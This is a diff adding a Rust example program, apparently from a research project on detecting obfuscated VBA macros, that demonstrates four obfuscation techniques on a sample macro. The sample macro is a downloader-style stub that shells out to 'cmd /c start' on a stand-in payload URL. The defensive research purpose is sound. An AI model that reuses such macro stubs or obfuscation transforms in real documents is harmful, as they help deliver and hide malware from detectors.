@@ -1,0 +1,42 @@
+//! Regenerates **Table I** (the obfuscation-technique taxonomy) as living
+//! documentation: each row is demonstrated by actually running the
+//! corresponding transform on a sample macro.
+
+use rand::rngs::StdRng;
+use rand::SeedableRng;
+use vbadet_obfuscate::{Obfuscator, Technique};
+
+fn main() {
+    vbadet_bench::banner("Table I: Type of obfuscation techniques");
+    let sample = "Sub Fetch()\r\n\
+                  \x20   Dim target As String\r\n\
+                  \x20   target = \"http://example.test/payload.exe\"\r\n\
+                  \x20   Shell \"cmd /c start \" & target, 0\r\n\
+                  End Sub\r\n";
+
+    println!("{:<4} {:<22} {:<28} demonstration", "#", "Type", "Method");
+    println!("{}", "-".repeat(100));
+    let rows: [(&str, &str, &str, Technique); 4] = [
+        ("O1", "Random obfuscation", "Randomize name", Technique::Random),
+        ("O2", "Split obfuscation", "Split strings", Technique::Split),
+        ("O3", "Encoding obfuscation", "Encode strings", Technique::Encoding),
+        ("O4", "Logic obfuscation", "Insert and reorder code", Technique::LogicWithIntensity(6)),
+    ];
+    for (id, kind, method, technique) in rows {
+        let mut rng = StdRng::seed_from_u64(0xD5);
+        let out = Obfuscator::new().with(technique).apply(sample, &mut rng);
+        let first_diff = out
+            .source
+            .lines()
+            .find(|l| !sample.contains(*l) && !l.trim().is_empty())
+            .unwrap_or("(reordered)");
+        let shown: String = first_diff.trim().chars().take(44).collect();
+        println!("{id:<4} {kind:<22} {method:<28} {shown}");
+    }
+
+    println!();
+    println!("Original macro:");
+    for line in sample.lines() {
+        println!("    {line}");
+    }
+}
